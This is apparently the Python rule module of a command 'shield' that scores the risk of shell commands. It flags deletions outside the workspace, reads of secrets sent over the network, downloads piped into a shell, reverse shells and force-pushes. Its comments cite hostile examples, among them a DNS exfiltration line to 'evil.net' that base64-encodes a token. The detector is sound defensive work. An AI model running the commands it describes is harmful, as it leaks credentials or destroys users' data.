"""The shield's rules over the shell wing's facts: each fact a command line yields (an
effect on a place, a problem the wing found) gets a score and a reason naming the fact and
where it was found, e.g. ``deletes outside the workspace: / (rm -rf inside eval)``.
The table :data:`RULES` is the whole policy for effects; :func:`problem_score` for problems.
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Callable, Iterable, Sequence

import attrs

from toolpipe.layers._shield_places import (
    OFFSITE,
    command_checks,
    links_made,
    offsite,
    picked,
    place_of,
    recursive,
    repointed,
    spliced,
)
from toolpipe.layers._shield_services import credential_to_stranger
from toolpipe.shell import (
    DECODERS,
    DOWNLOADERS,
    ENVIRONMENT,
    NETWORK_SOURCES,
    Command,
    Effect,
    Place,
    Problem,
    Script,
    classify,
    effects,
    holds_secrets,
    in_made_folder,
    new_program,
    plain_output,
    restricting_mode,
    sends,
    setuid_mode,
    start_file,
)


@attrs.frozen
class Finding:
    score: float
    reason: str


@attrs.frozen
class RuleOptions:
    """``workspace_deletions``: the score of a recursive, forced deletion inside the workspace
    (the spec scores every ``rm -rf`` 0.9; ours 0.4, a warning; other deletions inside: 0)."""

    workspace_deletions: float = 0.4


# A rule: (effect, its place or None, the script, options) → a finding or None.
Rule = Callable[[Effect, Place | None, Script, RuleOptions], Finding | None]

# the workspace's own version control folder, or what is in it (not a vendored one's)
_OWN_HISTORY = re.compile(r"^\.(?:git|hg|svn|jj|bzr)(?:/|$)")
_DESTROYED = {"root": 1.0, "device": 1.0, "system": 0.95, "secret": 0.9, "persistence": 0.95,
              "outside": 0.9, "workspace-root": 0.9}
_OVERWRITTEN = {"device": 1.0, "persistence": 0.9, "system": 0.9, "secret": 0.9, "root": 0.9,
                "outside": 0.5, "workspace-root": 0.5}
_KEPT = {("outside", "makes a new folder"), ("workspace-root", "rewrites in place")}


def _at(effect: Effect, place: Place | None, what: str) -> str:
    where = effect.command.located()
    return f"{what} ({where})" if place is None else f"{what} {place.label}: {place.path} ({where})"


_ONE_VARIABLE = re.compile(r'"\$\{?[A-Za-z_][A-Za-z0-9_]*\}?"')  # "$f", "${f}": one word


def _delete(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
    if e.word is not None and e.word.sources == ("mktemp",) and (
            ".." not in e.word.text.split("/")):
        return None  # what mktemp made on the same line is the script's own (not its `..`)
    if e.word is not None and in_made_folder(e.word, e.command.cwd):
        return None  # `cd "$(mktemp -d)" && rm -rf ./*`: in that folder, the same
    if p is None:
        return Finding(0.9, _at(e, p, f"deletes {e.detail or 'something it cannot name'}"))
    if p.kind in ("workspace", "scratch"):
        if p.kind == "workspace" and (e.recursive or "{}" in p.path) and _OWN_HISTORY.match(
                posixpath.normpath(p.path)):  # (`find .git -exec rm {} +`: every file in it)
            # the workspace's own repository (`rm -rf .git`): what was never pushed is gone
            return Finding(0.6, _at(e, p, "deletes the repository's history (what was "
                                          "never pushed is lost),"))
        if p.kind == "workspace" and e.recursive and e.forced and o.workspace_deletions:
            return Finding(o.workspace_deletions, _at(e, p, "deletes recursively"))
        if p.kind == "scratch" and e.recursive:  # a folder in /tmp may be anyone's work
            return Finding(0.6, _at(e, p, "deletes recursively outside the workspace, in"))
        return None
    if p.kind == "outside" and e.detail == "moves into the workspace":  # (kept: asked)
        return Finding(0.6, _at(e, p, "moves into the workspace, out of its place"))
    score = _DESTROYED[p.kind]
    if not e.recursive and p.kind == "outside":
        # one file (a quoted word): named, blocked; not known at all (`rm -f "$tmpfile"`
        # in a trap: a variable of the environment, or nothing), asked
        score = 0.6 if e.word is not None and not e.word.known and _ONE_VARIABLE.fullmatch(
            e.word.raw) else 0.7
    return Finding(score, _at(e, p, "deletes"))


def _write(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
    # a file that decides what runs later, wherever it is (Python's start-up files, an AI
    # agent's settings: toolpipe.shell.start_file); stronger places keep their own score
    starts = start_file(e.word.text) if e.word is not None else None
    if starts and (p is None or p.kind not in ("root", "system", "device", "persistence")):
        return Finding(0.6, _at(e, p, f"writes {starts},"))
    if e.detail == "schedules a command":  # at, batch: the job's code is judged as it is
        return Finding(0.6, _at(e, None, "schedules a command to run later, outside this call"))
    if e.detail == "without end" and (p is None or p.kind in ("workspace", "scratch",
                                                              "outside")):  # yes > f
        return Finding(0.6, _at(e, p, "fills the disk, writing without end (or tens of GB),"))
    if p is None or p.kind in ("workspace", "scratch") or (p.kind, e.detail) in _KEPT:
        return None  # (a clone's new folder, a formatter's rewrite: nothing overwritten)
    if p.kind == "secret" and e.word is not None and _inside(e.word.text):  # cp .env.x .env,
        made = in_made_folder(e.word, e.command.cwd)  # from the workspace or mktemp's folder
        if made or _inside(e.command.cwd or "~"):
            where = "in a folder mktemp made" if made else "in the workspace"
            return Finding(0.4, _at(e, p, f"writes, {where},"))
    if p.kind in ("system", "persistence") and e.word is not None and new_program(e.word.text):
        return Finding(0.6, _at(e, p, "puts a program of a new name on the PATH:"))
    what = "installs a crontab in" if e.detail == "installs a crontab" else "writes"
    if p.settings:  # a tool's settings file: written as any file outside the workspace is
        return Finding(_OVERWRITTEN["outside"], _at(e, p, what))
    return Finding(_OVERWRITTEN[p.kind], _at(e, p, what))


def _inside(path: str) -> bool:
    """A relative path that stays in the workspace (spelt so)."""
    return not path.startswith(("/", "~", "$")) and ".." not in path.split("/")


def _mode(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
    kind = p.kind if p is not None else "outside"
    verb = "re-modes" if e.kind == "mode" else "re-owns"
    mode = e.detail if e.kind == "mode" else ""
    if kind in ("root", "system", "device", "persistence", "secret"):
        if restricting_mode(mode) and kind == "secret":
            return None  # chmod -R go-w ~/.ssh takes rights away from others
        if restricting_mode(mode) and not e.recursive and kind not in ("root", "device"):
            # chmod 600 ~/.ssh/id_rsa: what ssh asks (on system files it may lock users out)
            home = kind == "secret" or (p is not None and p.path[:1] == "~")
            return None if home else Finding(0.5, _at(e, p, f"{verb} ({mode})"))
        if e.recursive or kind in ("root", "device"):
            return Finding(1.0, _at(e, p, f"{verb} recursively" if e.recursive else verb))
        if setuid_mode(mode):
            return Finding(0.95, _at(e, p, f"makes setuid ({mode})"))
        if e.command.name == "chattr":
            return Finding(0.7, _at(e, p, f"changes attributes ({mode})"))
        new = e.word is not None and new_program(e.word.text)  # chmod +x ~/.local/bin/tool
        return Finding(0.6 if new else 0.7, _at(e, p, verb))
    if setuid_mode(mode):
        return Finding(0.9, _at(e, p, f"makes setuid ({mode})"))
    world = mode in ("777", "0777", "666", "0666") or mode.startswith(("a+w", "o+w", "a+rwx"))
    if kind == "workspace-root" and e.recursive:
        return Finding(0.5, _at(e, p, f"{verb} recursively"))
    if kind == "outside":
        return Finding(0.9 if e.recursive else 0.5, _at(e, p, verb))
    if world and kind != "scratch":
        return Finding(0.5, _at(e, p, f"makes world-writable ({mode})"))
    return None


def _send(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
    if e.detail == "/dev/tcp":  # what is sent is judged by the read rules
        return Finding(0.5, _at(e, None, f"opens a network connection ({e.word and e.word.shown})"))
    if p is None:
        return None
    score = {"secret": 1.0, "persistence": 0.9, "system": 0.9, "root": 0.9,
             "outside": 0.7, "device": 0.9}.get(p.kind)
    return Finding(score, _at(e, p, "sends")) if score else None


def _read(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
    if p is not None and p.kind in ("outside", "root", "system") and e.word is not None and (
            e.word.known and holds_secrets(p.path) and recursive(e.command)):
        verb = "sends" if s.networked else "reads"
        return Finding(1.0 if s.networked else 0.5, _at(e, p, f"{verb} everything in a "
                                                              f"folder that holds secrets,"))
    if p is not None and p.kind == "outside" and s.networked and (
            sends(e.command) or any(sends(c) for c in s.downstream(e.command))
            or spliced(e.command)):
        # a file outside the workspace, read and sent: `dig $(base64 ~/.token).evil.net`
        return Finding(0.6, _at(e, p, "sends over the network"))
    if p is not None and p.kind not in ("system", "persistence", "secret"):
        return None
    networked = s.networked
    sent = sends(e.command) or any(sends(c) for c in s.downstream(e.command))
    if p is None:  # the environment, or a credential a command prints
        what = "a credential" if e.detail == "a credential" else e.detail
        if sent and (what == "the environment" or any(sends(c) for c in s.downstream(
                e.command))):  # (a tool that prints its own login talks to its service)
            return Finding(0.9, _at(e, None, f"sends {what} over the network"))
        if what == "the environment" and picked(s.downstream(e.command)):
            return None  # `env | grep PATH`: one named variable, or a count, is shown
        return Finding(0.5, _at(e, None, "prints every variable of the environment (its "
                                         "tokens and keys)" if e.detail == "the environment"
                                else e.detail if e.detail.startswith("talks")
                                else f"prints {e.detail or 'a credential'}"))
    if p.kind in ("system", "persistence") and sent:
        return Finding(0.9, _at(e, p, "sends over the network"))
    if p.kind != "secret":
        return None
    if networked:
        return Finding(1.0, f"reads a secret in a script that uses the network: {p.path} "
                            f"({e.command.located()})")
    return None if e.detail == "uses a key" else Finding(0.5, _at(e, p, "reads"))


def _stdin_code(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
    up = e.command.upstream
    where = e.command.located()
    if any(c.name in NETWORK_SOURCES for c in up):
        return Finding(1.0, f"download piped into a shell ({where})")
    if any(c.name in DECODERS and not (c.name == "printf" and plain_output((c,))) for c in up):
        return Finding(1.0, f"decoded text piped into a shell ({where})")  # (printf: unread)
    if up and not all(c.name in ("echo", "printf", "cat") and c.args for c in up):
        return Finding(0.8, f"output of another command piped into a shell ({where})")
    return None  # a here-document or a literal the wing has read as code


def _fixed(score: float, what: str) -> Rule:
    def rule(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
        where = e.command.located()
        detail = f" ({e.detail})" if e.detail and e.detail not in what + where else ""
        return Finding(score, f"{what}{detail} ({where})")
    return rule


def _force_push(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
    where = e.command.located()
    if e.detail == "--force-with-lease":
        return Finding(0.45, f"force-pushes with a lease ({where})")
    if e.detail.endswith(" tag"):  # a release's tag: others fetched what it named
        return Finding(0.6, f"moves a release tag others may have fetched ({where})")
    if e.detail.endswith(" feature"):  # a branch of one's own: warned about
        return Finding(0.45, f"rewrites a feature branch's history ({where})")
    if e.detail.endswith(" protected") or "rewrites history" in e.detail:
        return Finding(0.9, f"rewrites remote history: {e.detail} ({where})")
    return Finding(0.6, f"rewrites remote history of a branch it does not name: "
                        f"{e.detail} ({where})")


def _remote_delete(e: Effect, p: Place | None, s: Script, o: RuleOptions) -> Finding | None:
    if e.detail == "feature":  # a branch of one's own, named: asked (after a merge, routine)
        return Finding(0.6, f"deletes a remote branch of its own: what only it held is "
                            f"lost ({e.command.located()})")
    return Finding(0.7, f"deletes remote branches ({e.command.located()})")


RULES: dict[str, Rule] = {
    "delete": _delete, "write": _write, "mode": _mode, "owner": _mode, "send": _send,
    "read": _read, "stdin-code": _stdin_code, "force-push": _force_push,
    "device": _fixed(1.0, "destroys a device"),
    "network-shell": _fixed(1.0, "gives a shell to the network"),
    "remote-delete": _remote_delete,
    "power": _fixed(0.6, "powers off or reboots the machine"),
    "kill-all": _fixed(0.9, "kills every process"),
    "history": _fixed(0.5, "erases the shell history"),
    "service": _fixed(0.5, "enables a system service at boot"),
    "firewall": _fixed(0.5, "drops the firewall's rules"),
}

_PROBLEMS = {"too-long": 1.0, "too-deep": 1.0, "fork-bomb": 1.0, "reverse-shell": 1.0,
             "unparsed": 0.5, "socket": 0.5, "destroys": 0.55, "exhausts": 0.6,
             "schedules": 0.6}
# sudo's options that list, check or forget rights, or print: no shell opens
_NOT_A_SHELL = frozenset({"-l", "-ll", "--list", "-v", "--validate", "-k", "-K",
                          "--reset-timestamp", "--remove-timestamp", "-V", "--version", "-h",
                          "--help"})
_PRIVILEGED_SHELL = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "su", "sudo", "doas",
                               "runuser", "machinectl"})


def problem_score(problem: Problem, script: Script) -> Finding:
    text = problem.located()
    if problem.kind in ("dynamic-code", "dynamic-command"):
        what = "code" if problem.kind == "dynamic-code" else "a command"
        if set(problem.sources) & NETWORK_SOURCES:
            return Finding(1.0, f"runs downloaded {what}: {text}")
        if set(problem.sources) & DECODERS:
            return Finding(0.9, f"runs decoded {what}: {text}")
        return Finding(0.6, text)
    return Finding(_PROBLEMS.get(problem.kind, 0.5), text)


def _dynamic_target(cmd: Command, workspace: str) -> Finding | None:
    """A command whose name is not known, pointed at a place that matters."""
    for a in cmd.args:
        if a.text.startswith("-") or not a.known:
            continue
        p = classify(a, cmd.cwd, workspace)
        if p.kind in ("root", "system", "device", "persistence", "secret"):
            return Finding(0.9, f"runs a command whose name is not known on {p.label}: "
                                f"{p.path} ({cmd.located()})")
    return None


def downloads(script: Script, workspace: str) -> set[str]:
    """The files a script's downloaders write, normalised (for download-then-run)."""
    out: set[str] = set()
    for cmd in script.commands:
        if cmd.name in DOWNLOADERS or any(c.name in DOWNLOADERS for c in cmd.upstream):
            for e in effects(cmd):
                if e.kind == "write" and e.word is not None and e.word.known:
                    out.add(_normal(e.word.text, cmd.cwd))
    return out


def _normal(path: str, cwd: str | None) -> str:
    return posixpath.normpath(posixpath.join(cwd or ".", path))


def _runs_download(e: Effect, cmd: Command, earlier: set[str], fetched: set[str]
                   ) -> Finding | None:
    word = e.word
    assert word is not None
    if set(word.sources) & NETWORK_SOURCES:
        return Finding(1.0, f"runs downloaded code: {word.shown} ({cmd.located()})")
    if set(word.sources) & DECODERS:
        return Finding(0.9, f"runs decoded code: {word.shown} ({cmd.located()})")
    if not word.known:
        return None
    path = _normal(word.text, cmd.cwd)
    if path in earlier:
        return Finding(1.0, f"runs {word.text!r}, downloaded by an earlier call "
                            f"({cmd.located()})")
    if path in fetched:
        return Finding(1.0, f"runs {word.text!r}, downloaded earlier on the same line "
                            f"({cmd.located()})")
    return None


def findings(script: Script, workspace: str, options: RuleOptions,
             downloaded: Iterable[str] = (), escaped: frozenset[str] = frozenset()
             ) -> list[Finding]:
    """Every finding in one script; ``downloaded``: files earlier calls downloaded."""
    out = [problem_score(p, script) for p in script.problems] + [
        Finding(score, reason) for score, reason in (*repointed(script),
                                                     *credential_to_stranger(script))]
    if any(p.kind == "too-long" for p in script.problems):
        return out  # blocked unread: the rest would not change the verdict
    earlier = set(downloaded)
    fetched: set[str] = set()
    through = links_made(script, workspace)  # (not for the links' own writes)
    for cmd in script.commands:
        if not cmd.name and cmd.argv:
            found = _dynamic_target(cmd, workspace)
            if found is not None:
                out.append(found)
        if cmd.name in OFFSITE:  # (a row's secret piped on to a sender: sent_on)
            out += [Finding(score, reason) for score, reason in offsite(cmd, script)]
        out += [Finding(score, reason) for score, reason in command_checks(
            cmd, workspace, script.commands)]
        if cmd.privileged and cmd.name in _PRIVILEGED_SHELL and all(
                a.text.startswith("-") or a.text == "root" for a in cmd.args) and not any(
                a.text in _NOT_A_SHELL for a in cmd.args):
            out.append(Finding(0.5, f"opens a privileged shell ({cmd.located()})"))
        for e in effects(cmd):
            if e.kind == "exec" and e.word is not None:
                found = _runs_download(e, cmd, earlier, fetched)
                if found is not None:
                    out.append(found)
                    continue
            rule = RULES.get(e.kind)
            if rule is None:
                continue
            place = place_of(e, workspace, escaped, None if cmd.name == "ln" else through)
            found = rule(e, place, script, options)
            if found is not None and found.score > 0:
                out.append(found)
            if e.kind == "delete" and e.word is not None and ENVIRONMENT in e.word.sources:
                # `rm -rf "${BUILD:-./build}"`: harmless as written, but the environment
                # may name another place: understood, or ask
                out.append(Finding(0.55, _at(e, place, "deletes what a variable of the "
                                                       "environment may name, by default")))
        if cmd.name in DOWNLOADERS:
            fetched |= downloads(Script(script.text, (cmd,), (), workspace), workspace)
    return out


def strongest(found: Sequence[Finding]) -> Finding:
    """The first of the highest scores (none above 0: no finding)."""
    return max((f for f in found if f.score > 0), key=lambda f: f.score,
               default=Finding(0.0, ""))
